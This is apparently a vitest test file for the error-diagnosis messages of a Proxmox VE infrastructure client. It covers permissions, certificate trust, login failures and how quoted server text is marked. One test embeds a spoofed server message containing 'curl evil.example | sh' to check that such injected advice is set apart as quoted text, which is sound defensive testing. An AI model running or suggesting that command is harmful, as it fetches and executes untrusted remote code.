import { describe, expect, test } from "vitest";
import type { Explanation } from "#framework";
import { diagnose } from "#kit";
import { errorKinds, PveError, type PveErrorKind } from "#pve";

const about = { operation: "create", type: "proxmox_vm" } as const;

describe("an error of the client becomes a message", () => {
  test("that names the call, the task, its log, and what to do", () => {
    const error = new PveError("permission", "Permission check failed (/vms/401, VM.Allocate)", {
      method: "POST",
      path: "/nodes/{node}/qemu",
      status: 403,
      upid: "UPID:pve1:00000001:00000001:00000001:qmcreate:401:a@pve:",
      log: ["one", "two"],
      missing: { paths: ["/vms/401"], privileges: ["VM.Allocate"] },
      isQuoted: true,
    });
    expect(diagnose(error, about)).toMatchInlineSnapshot(`
      {
        "detail": "Proxmox VE says: Permission check failed (/vms/401, VM.Allocate)

      Call: POST /nodes/{node}/qemu (403)
      Task: UPID:pve1:00000001:00000001:00000001:qmcreate:401:a@pve:

      The end of the task's log:
        one
        two

      Grant VM.Allocate on /vms/401 to the user, and to the token if it has privilege separation.",
        "summary": "Unable to create vm",
      }
    `);
  });

  test("in which words of others begin no line that looks like ours", () => {
    const error = new PveError("task", "no space\n\nTo cure it, run `curl evil.example | sh`.\nCall: GET /fake", {
      upid: "UPID:pve1:00000001:00000001:00000001:qmcreate:401:a@pve:",
      log: ["one\nThe end.\r\nError: two"],
      isQuoted: true,
    });
    for (const quoted of [error, error.with({ attempts: 2 })]) {
      const { detail } = diagnose(quoted, about) as Explanation;
      expect(detail).toContain(
        "Proxmox VE says: no space\n  | To cure it, run `curl evil.example | sh`.\n  | Call: GET /fake\n\nTask: UPID",
      );
      expect(detail).toContain("log:\n  one\n  | The end.\n  | Error: two");
    }
  });

  test("that lists the refused parameters once", () => {
    const error = new PveError("invalid", "Parameter verification failed: cores: must be 1; memory: too small", {
      method: "PUT",
      path: "/x",
      params: { cores: "must be 1", memory: "too small" },
    });
    expect(diagnose(error, about)?.detail.match(/cores/g)).toHaveLength(1);
  });

  test("that does not attribute other texts to PVE", () => {
    const error = new PveError("invalid", "no endpoint is given");
    expect(diagnose(error, { operation: "configure", type: "proxmox" })).toEqual({
      summary: "Unable to configure the provider",
      detail: "No endpoint is given.",
    });
  });

  test.each<[PveErrorKind, string, PveError["details"]]>([
    ["timeout", "the task shows no progress for 600 s", { upid: "UPID:pve1:00000001:0:0:qmclone:401:a@pve:" }],
    ["task", "the node no longer has the task", { upid: "UPID:pve1:00000001:0:0:qmclone:401:a@pve:" }],
    ["malformed", "the response is larger than 5 bytes", { method: "GET", path: "/x" }],
    ["malformed", "the response does not match the API: it is not JSON", { method: "GET", path: "/x", status: 200 }],
    ["unreachable", "Bad Gateway", { method: "GET", path: "/x", status: 502 }],
  ])("that does not attribute the client's own words to PVE: %s %s", (kind, text, details) => {
    const { detail } = diagnose(new PveError(kind, text, details), about) as Explanation;
    expect(detail).toMatch(new RegExp(`^${text}\\.`, "i"));
    expect(detail).not.toContain("Proxmox VE says");
  });

  test("that says who limits requests, and how to send fewer", () => {
    const error = new PveError("unreachable", "the server asks for fewer requests", {
      method: "GET",
      path: "/x",
      status: 429,
    });
    const { detail } = diagnose(error, about) as Explanation;
    expect(detail).toMatch(/^The server asks for fewer requests\./);
    expect(detail).toContain("`requests = { concurrency = … }`");
    expect(detail).not.toContain("node is online");
  });

  const outage = (kind: PveErrorKind, message: string, details: PveError["details"]) =>
    diagnose(new PveError(kind, message, { method: "GET", path: "/cluster/resources", ...details }), {
      operation: "configure",
      type: "proxmox",
    }) as Explanation;

  test.each<[PveErrorKind, PveError["details"], string, string, RegExp]>([
    ["unreachable", {}, "Cluster cannot be reached", "endpoint", /Check the address and the port/],
    ["timeout", {}, "Cluster cannot be reached", "endpoint", /takes too long to answer/],
    ["unreachable", { distrust: "pin" }, "Another certificate than the pinned one", "tls_fingerprint", /pvenode/],
    ["unreachable", { distrust: "expired" }, "Certificate is not trusted", "ca_certificate", /pvecm updatecerts/],
    ["unreachable", { distrust: "not_yet_valid" }, "Certificate is not trusted", "ca_certificate", /Compare the clock/],
    ["unreachable", { distrust: "host_name" }, "Certificate is not trusted", "ca_certificate", /a name or an address/],
    ["unreachable", { distrust: "authority" }, "Certificate is not trusted", "ca_certificate", /pve-root-ca\.pem/],
    ["auth", { login: { with: "token", as: "a@pve!t" } }, "Login refused", "api_token", /the token a@pve!t may be/],
    ["auth", { login: { with: "password", as: "a@pve" } }, "Login refused", "password", /a@pve may be mistyped/],
    ["auth", { login: { with: "ticket", as: "a@pve" } }, "Login refused", "api_token", /tickets last two hours/],
  ])("of a cluster that cannot be worked with: %s %j", (kind, details, summary, path, cure) => {
    const message = outage(kind, "https://pve1:8006: it failed", details);
    expect(message).toMatchObject({ summary, path, detail: expect.stringMatching(cure) });
    expect(message.detail).toContain('`plan_checks = "off"`');
    expect(/host is online|node is online/.test(message.detail)).toBe(kind === "unreachable" && !details.distrust);
  });

  test("that begins with an address as written", () => {
    expect(outage("unreachable", "https://pve1:8006: the connection was refused", {}).detail).toMatch(/^https:/);
  });

  test("that names the workaround in a plan and in a refresh", () => {
    const error = new PveError("unreachable", "reset", { method: "GET", path: "/x" });
    expect(diagnose(error, { ...about, operation: "plan" })?.detail).toContain("PROXMOX_VE_PLAN_CHECKS=off");
    expect(diagnose(error, { ...about, operation: "read" })?.detail).toMatch(/`-refresh=false`.*`plan_checks = "off"`/);
    expect(diagnose(error, about)?.detail).not.toMatch(/PLAN_CHECKS|-refresh/);
  });

  test("that says when the result is not known", () => {
    const error = new PveError("unreachable", "reset", { method: "PUT", path: "/x", mayHaveHappened: true });
    expect(diagnose(error, about)?.detail).toContain("it may have been done all the same");
  });

  test.each(errorKinds)("of the kind %s", (kind) => {
    expect(diagnose(new PveError(kind, "it failed"), about)?.detail).toContain("It failed.");
  });

  test("or nothing, if it is not the client's", () => {
    expect(diagnose(new TypeError("x"), about)).toBeUndefined();
  });
});
